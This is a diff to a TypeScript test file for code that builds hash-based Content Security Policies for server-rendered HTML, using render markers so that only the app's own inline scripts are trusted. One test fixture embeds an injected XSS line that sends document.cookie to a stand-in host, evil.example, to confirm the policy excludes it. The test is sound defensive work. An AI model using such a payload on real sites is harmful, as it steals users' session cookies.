@@ -1,3 +1,4 @@
+import { createHash } from "node:crypto";
 import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import path from "node:path";
@@ -15,17 +16,22 @@ import {
 
 const POLICY = "default-src 'self';script-src 'self';object-src 'none'";
 // Two-byte characters (an en dash, CJK) and an inline module script, which prepareDocument rewrites.
+// The render's mark is on its scripts (app/entry.server.tsx); finishing hashes those and takes the mark out.
+const MARK = "cmVuZGVyLW1hcms";
 const HTML =
   "<!DOCTYPE html><html><head><title>Flagship Bumblebee – 大黄蜂</title></head><body><p>Hi</p>" +
-  '<script>window.x=1</script><script type="module">import "/assets/a.js";</script></body></html>';
+  `<script nonce="${MARK}">window.x=1</script><script type="module" nonce="${MARK}">import "/assets/a.js";</script>` +
+  "</body></html>";
+const doc = (html: string | string[]) => ({ html, marker: MARK });
+const DOC = doc(HTML);
 
 describe("finishDocument", () => {
   it("prepares the document (hash CSP, module scripts inserted by script) and compresses it for one response", () => {
-    const prepared = prepareDocument(HTML, POLICY);
-    const br = finishDocument(HTML, POLICY, { kind: "send", encoding: "br" });
-    const gzip = finishDocument(HTML, POLICY, { kind: "send", encoding: "gzip" });
-    const identity = finishDocument(HTML, POLICY, { kind: "send", encoding: "identity" });
-    const stored = finishDocument(HTML, POLICY, { kind: "store" });
+    const prepared = prepareDocument(HTML, POLICY, MARK);
+    const br = finishDocument(DOC, POLICY, { kind: "send", encoding: "br" });
+    const gzip = finishDocument(DOC, POLICY, { kind: "send", encoding: "gzip" });
+    const identity = finishDocument(DOC, POLICY, { kind: "send", encoding: "identity" });
+    const stored = finishDocument(DOC, POLICY, { kind: "store" });
     for (const finished of [br, gzip, identity, stored]) expect(finished.csp).toBe(prepared.csp);
     expect(prepared.csp).toMatch(/script-src 'self' 'strict-dynamic' 'sha256-[^']+' 'sha256-[^']+'/);
     expect(brotliDecompressSync(br.body).toString("utf8")).toBe(prepared.html);
@@ -37,8 +43,8 @@ describe("finishDocument", () => {
 
   it("takes a document in pieces as the HTML they join into", () => {
     const pieces = [HTML.slice(0, 40), HTML.slice(40, 150), HTML.slice(150)];
-    const whole = finishDocument(HTML, POLICY, { kind: "store" });
-    const joined = finishDocument(pieces, POLICY, { kind: "store" });
+    const whole = finishDocument(DOC, POLICY, { kind: "store" });
+    const joined = finishDocument(doc(pieces), POLICY, { kind: "store" });
     expect(joined.csp).toBe(whole.csp);
     expect(joined.body.equals(whole.body)).toBe(true);
   });
@@ -46,8 +52,14 @@ describe("finishDocument", () => {
 
 describe("finishJob (the thread's side)", () => {
   it("answers with the same CSP and bytes as finishing inline, the body's memory handed over", () => {
-    const { reply, transfer } = finishJob({ id: 7, html: HTML, basePolicy: POLICY, mode: { kind: "store" } });
-    const inline = finishDocument(HTML, POLICY, { kind: "store" });
+    const { reply, transfer } = finishJob({
+      id: 7,
+      html: HTML,
+      marker: MARK,
+      basePolicy: POLICY,
+      mode: { kind: "store" },
+    });
+    const inline = finishDocument(DOC, POLICY, { kind: "store" });
     expect(reply.id).toBe(7);
     expect(reply.csp).toBe(inline.csp);
     expect(Buffer.from(reply.body!).equals(inline.body)).toBe(true);
@@ -58,6 +70,7 @@ describe("finishJob (the thread's side)", () => {
     const { reply, transfer } = finishJob({
       id: 3,
       html: HTML,
+      marker: MARK,
       basePolicy: null as never,
       mode: { kind: "store" },
     });
@@ -95,7 +108,7 @@ describe("createThreadedFinisher", () => {
       ),
     );
     const answers = await Promise.all(
-      ["a", "bb", "ccc"].map((html) => finisher!.finish(html, POLICY, { kind: "store" })),
+      ["a", "bb", "ccc"].map((html) => finisher!.finish(doc(html), POLICY, { kind: "store" })),
     );
     expect(answers.map(({ csp, body }) => [csp, body.toString("utf8")])).toEqual([
       ["store:0", "1"],
@@ -108,15 +121,15 @@ describe("createThreadedFinisher", () => {
     finisher = createThreadedFinisher(
       worker("fails.mjs", `parentPort.on("message", (job) => parentPort.postMessage({ id: job.id, error: "no" }));`),
     );
-    await expect(finisher.finish(HTML, POLICY, { kind: "store" })).rejects.toThrow("document finishing failed: no");
+    await expect(finisher.finish(DOC, POLICY, { kind: "store" })).rejects.toThrow("document finishing failed: no");
   });
 
   it("finishes the jobs of a thread that dies inline (same bytes), and stops starting threads after three deaths", async () => {
     const log = vi.spyOn(console, "error").mockImplementation(() => undefined);
     finisher = createThreadedFinisher(worker("dies.mjs", `parentPort.on("message", () => process.exit(3));`));
-    const expected = await finishInline(HTML, POLICY, { kind: "send", encoding: "gzip" });
+    const expected = await finishInline(DOC, POLICY, { kind: "send", encoding: "gzip" });
     for (let death = 1; death <= 4; death++) {
-      const finished = await finisher.finish(HTML, POLICY, { kind: "send", encoding: "gzip" });
+      const finished = await finisher.finish(DOC, POLICY, { kind: "send", encoding: "gzip" });
       expect(finished.csp).toBe(expected.csp);
       expect(gunzipSync(finished.body).equals(gunzipSync(expected.body))).toBe(true);
     }
@@ -128,13 +141,13 @@ describe("createThreadedFinisher", () => {
   it("keeps a way to render the document again instead of the document, and uses it if the thread dies", async () => {
     vi.spyOn(console, "error").mockImplementation(() => undefined);
     finisher = createThreadedFinisher(worker("dies-later.mjs", `parentPort.on("message", () => process.exit(4));`));
-    const again = vi.fn(async () => HTML.replace("Hi", "Hi again"));
-    const finished = await finisher.finish(HTML, POLICY, { kind: "store" }, again);
+    const again = vi.fn(async () => doc(HTML.replace("Hi", "Hi again")));
+    const finished = await finisher.finish(DOC, POLICY, { kind: "store" }, again);
     expect(again).toHaveBeenCalledTimes(1);
-    expect(finished.body.toString("utf8")).toBe(prepareDocument(HTML.replace("Hi", "Hi again"), POLICY).html);
+    expect(finished.body.toString("utf8")).toBe(prepareDocument(HTML.replace("Hi", "Hi again"), POLICY, MARK).html);
     // A render that fails again rejects the job.
     await expect(
-      finisher.finish(HTML, POLICY, { kind: "store" }, async () => Promise.reject(new Error("render failed"))),
+      finisher.finish(DOC, POLICY, { kind: "store" }, async () => Promise.reject(new Error("render failed"))),
     ).rejects.toThrow("render failed");
   });
 
@@ -148,16 +161,50 @@ describe("createThreadedFinisher", () => {
         });`,
       ),
     );
-    const again = vi.fn(async () => "other");
-    expect((await finisher.finish("doc", POLICY, { kind: "store" }, again)).body.toString("utf8")).toBe("doc");
+    const again = vi.fn(async () => doc("other"));
+    expect((await finisher.finish(doc("doc"), POLICY, { kind: "store" }, again)).body.toString("utf8")).toBe("doc");
     expect(again).not.toHaveBeenCalled();
   });
 
   it("finishes inline once closed", async () => {
     finisher = createThreadedFinisher(worker("never.mjs", `parentPort.on("message", () => undefined);`));
-    const pending = finisher.finish(HTML, POLICY, { kind: "store" });
+    const pending = finisher.finish(DOC, POLICY, { kind: "store" });
     await finisher.close();
-    expect((await pending).csp).toBe(prepareDocument(HTML, POLICY).csp);
-    expect((await finisher.finish(HTML, POLICY, { kind: "store" })).csp).toBe(prepareDocument(HTML, POLICY).csp);
+    expect((await pending).csp).toBe(prepareDocument(HTML, POLICY, MARK).csp);
+    expect((await finisher.finish(DOC, POLICY, { kind: "store" })).csp).toBe(prepareDocument(HTML, POLICY, MARK).csp);
+  });
+});
+
+describe("the CSP trusts the scripts the app emitted (issue 25)", () => {
+  const sha = (text: string) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;
+  const MARK = "dGhlLXJlbmRlcidzLW1hcms";
+  // What a render writes: its own scripts (and React Router's preload links) carry the render's mark; an inline
+  // script that got into the content some other way does not.
+  const RENDERED =
+    `<!DOCTYPE html><html><head><link rel="modulepreload" href="/assets/a.js" nonce="${MARK}"/></head><body>` +
+    `<p>Review: great robot</p><script>fetch("//evil.example/?c="+document.cookie)</script>` +
+    `<script nonce="${MARK}">window.__ctx=1</script>` +
+    `<script type="module" nonce="${MARK}">import "/assets/a.js";</script></body></html>`;
+
+  it("hashes only the marked scripts, so an injected one is not allowed", () => {
+    const prepared = prepareDocument(RENDERED, POLICY, MARK);
+    expect(prepared.csp).toContain(sha("window.__ctx=1"));
+    expect(prepared.csp).toContain(sha('import "/assets/a.js";'));
+    expect(prepared.csp).not.toContain(sha('fetch("//evil.example/?c="+document.cookie)'));
+    const hashes = prepared.csp.match(/'sha256-/g) ?? [];
+    expect(hashes).toHaveLength(3); // the app's script, the module's loader and the module itself
+  });
+
+  it("takes the mark out of the document, which is then the same bytes for every render", () => {
+    const prepared = prepareDocument(RENDERED, POLICY, MARK);
+    expect(prepared.html).not.toContain(MARK);
+    expect(prepared.html).not.toContain("nonce");
+    const other = prepareDocument(RENDERED.replaceAll(MARK, "YW5vdGhlci1yZW5kZXI"), POLICY, "YW5vdGhlci1yZW5kZXI");
+    expect(other).toEqual(prepared);
+  });
+
+  it("trusts no inline script of a document without a mark", () => {
+    const prepared = prepareDocument(RENDERED, POLICY, null);
+    expect(prepared.csp).toBe("default-src 'self';script-src 'self' 'strict-dynamic';object-src 'none'");
   });
 });
